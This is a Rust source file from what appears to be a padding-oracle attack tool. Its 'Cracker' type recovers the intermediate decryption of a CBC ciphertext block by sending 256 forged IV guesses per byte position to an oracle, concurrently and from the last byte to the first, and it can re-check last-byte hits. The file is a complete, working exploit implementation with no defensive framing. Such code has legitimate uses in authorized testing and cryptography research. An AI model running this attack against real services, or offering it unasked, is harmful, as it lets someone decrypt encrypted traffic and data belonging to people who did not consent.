// Recovering the intermediate value of a single ciphertext block.
//
// For CBC decryption P = I ⊕ IV, where I = D(C) is the raw block-cipher output
// for ciphertext block C. We control the IV sent alongside C, so we can steer
// P without knowing the key.
//
// To find the final byte of I we try every value g for the final IV byte. The
// oracle accepts the query once P ends in '\x01', giving
//
//                        I[n-1] = g ⊕ \x01.
//
// For the byte before it we want P to end '\x02\x02'. The last IV byte is now
// fixed to I[n-1] ⊕ \x02 and we try every g at position n-2, and so on. Each
// position embeds every byte recovered before it, so positions must be solved
// from last to first. The 256 guesses within one position are independent and
// are sent to the oracle concurrently.
use crate::{block::check_block_size, oracle::Decision, Error, Logger, Oracle, Result};

use tokio::sync::mpsc;

use std::sync::Arc;

pub const DEFAULT_CONCURRENCY: usize = 64;

struct Probe {
    byte: u8,
    iv: Vec<u8>,
}

type ProbeResult = (Probe, Result<Decision>);

pub struct Cracker<O> {
    oracle: Arc<O>,
    block_size: usize,
    concurrency: usize,
    verify_last_byte: bool,
    strict_transport: bool,
    log: Logger,
}

impl<O> Clone for Cracker<O> {
    fn clone(&self) -> Self {
        Self {
            oracle: Arc::clone(&self.oracle),
            block_size: self.block_size,
            concurrency: self.concurrency,
            verify_last_byte: self.verify_last_byte,
            strict_transport: self.strict_transport,
            log: self.log.clone(),
        }
    }
}

impl<O: Oracle> Cracker<O> {
    pub fn new(oracle: O, block_size: usize) -> Self {
        Self::with_shared_oracle(Arc::new(oracle), block_size)
    }

    pub fn with_shared_oracle(oracle: Arc<O>, block_size: usize) -> Self {
        Self {
            oracle,
            block_size,
            concurrency: DEFAULT_CONCURRENCY,
            verify_last_byte: false,
            strict_transport: false,
            log: Logger::default(),
        }
    }

    /// Maximum number of oracle queries in flight at once.
    pub fn with_concurrency(mut self, concurrency: usize) -> Self {
        self.concurrency = concurrency.max(1);
        self
    }

    pub fn with_logger(mut self, log: Logger) -> Self {
        self.log = log;
        self
    }

    /// Re-check every hit on the final byte of a block with a second query
    /// that disturbs the byte before it. A lone '\x01' survives the
    /// disturbance, a coincidental '\x02\x02' (or longer) does not.
    pub fn verify_last_byte(mut self, verify: bool) -> Self {
        self.verify_last_byte = verify;
        self
    }

    /// Abort on the first failed oracle query instead of counting it as an
    /// invalid guess.
    pub fn strict_transport(mut self, strict: bool) -> Self {
        self.strict_transport = strict;
        self
    }

    pub fn block_size(&self) -> usize {
        self.block_size
    }

    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    /// Returns D(block), the block's decryption before it is XORed with its IV.
    pub async fn crack(&self, block: &[u8]) -> Result<Vec<u8>> {
        check_block_size(self.block_size)?;
        if block.len() != self.block_size {
            return Err(Error::config(format!(
                "Block is {} bytes but the block size is {}",
                block.len(),
                self.block_size
            )));
        }

        let block: Arc<[u8]> = Arc::from(block);
        let mut intermediate = vec![0u8; self.block_size];
        for pad in 1..=self.block_size {
            let index = self.block_size - pad;
            let byte = self.crack_byte(&block, &intermediate, pad).await?;
            intermediate[index] = byte;
        }
        Ok(intermediate)
    }

    async fn crack_byte(&self, block: &Arc<[u8]>, intermediate: &[u8], pad: usize) -> Result<u8> {
        let index = self.block_size - pad;
        let pad_byte = pad as u8;
        let iv_tail: Vec<u8> = intermediate[index + 1..]
            .iter()
            .map(|b| b ^ pad_byte)
            .collect();

        self.log.debug(format_args!(
            "IV: {}??{}",
            hex::encode(vec![0u8; index]),
            hex::encode(&iv_tail)
        ));

        let mut probes: Vec<Probe> = (0..=u8::MAX)
            .map(|byte| {
                let mut iv = vec![0u8; self.block_size];
                iv[index] = byte;
                iv[index + 1..].copy_from_slice(&iv_tail);
                Probe { byte, iv }
            })
            .collect();

        // Only this coordinator touches `count` and `pending`. Probes report
        // back over the channel; once a byte is found the receiver is dropped
        // and any probes still in flight finish into the void.
        let (tx, mut rx) = mpsc::unbounded_channel();
        let mut count = 0;
        let mut pending = 0;
        while pending < self.concurrency {
            match probes.pop() {
                Some(probe) => self.dispatch(probe, block, &tx),
                None => break,
            }
            pending += 1;
        }

        while pending > 0 {
            let Some((probe, result)) = rx.recv().await else {
                break;
            };
            count += 1;
            pending -= 1;

            let decision = match result {
                Ok(decision) => decision,
                Err(e) if self.strict_transport => return Err(e),
                Err(e) => {
                    self.log.debug(format_args!(
                        "IV: {} | {} [{}/256]",
                        hex::encode(&probe.iv),
                        e,
                        count
                    ));
                    Decision::new(false)
                }
            };

            if let Some(info) = &decision.debug_info {
                self.log.trace(format_args!(
                    "IV: {} | {} [{}/256]",
                    hex::encode(&probe.iv),
                    info,
                    count
                ));
            }

            if decision.valid && (pad != 1 || self.confirm_last_byte(&probe, block).await?) {
                let byte = probe.byte ^ pad_byte;
                self.log.info(format_args!(
                    "Found byte {} after {} requests",
                    index, count
                ));
                self.log.debug(format_args!(
                    " Probe={:02x}, Plain={:02x} -> Intermediate={:02x}",
                    probe.byte, pad_byte, byte
                ));
                return Ok(byte);
            }

            if let Some(next) = probes.pop() {
                self.dispatch(next, block, &tx);
                pending += 1;
            }
        }

        Err(Error::OracleExhausted { index })
    }

    fn dispatch(&self, probe: Probe, block: &Arc<[u8]>, tx: &mpsc::UnboundedSender<ProbeResult>) {
        let oracle = Arc::clone(&self.oracle);
        let block = Arc::clone(block);
        let tx = tx.clone();
        tokio::spawn(async move {
            let result = oracle.test(&probe.iv, &block).await;
            let _ = tx.send((probe, result));
        });
    }

    async fn confirm_last_byte(&self, probe: &Probe, block: &[u8]) -> Result<bool> {
        if !self.verify_last_byte || self.block_size < 2 {
            return Ok(true);
        }
        let mut iv = probe.iv.clone();
        iv[self.block_size - 2] ^= 0xff;
        match self.oracle.test(&iv, block).await {
            Ok(decision) => {
                if !decision.valid {
                    self.log.debug(format_args!(
                        "Rejected probe {:02x}: padding longer than one byte",
                        probe.byte
                    ));
                }
                Ok(decision.valid)
            }
            Err(e) if self.strict_transport => Err(e),
            Err(_) => Ok(false),
        }
    }
}
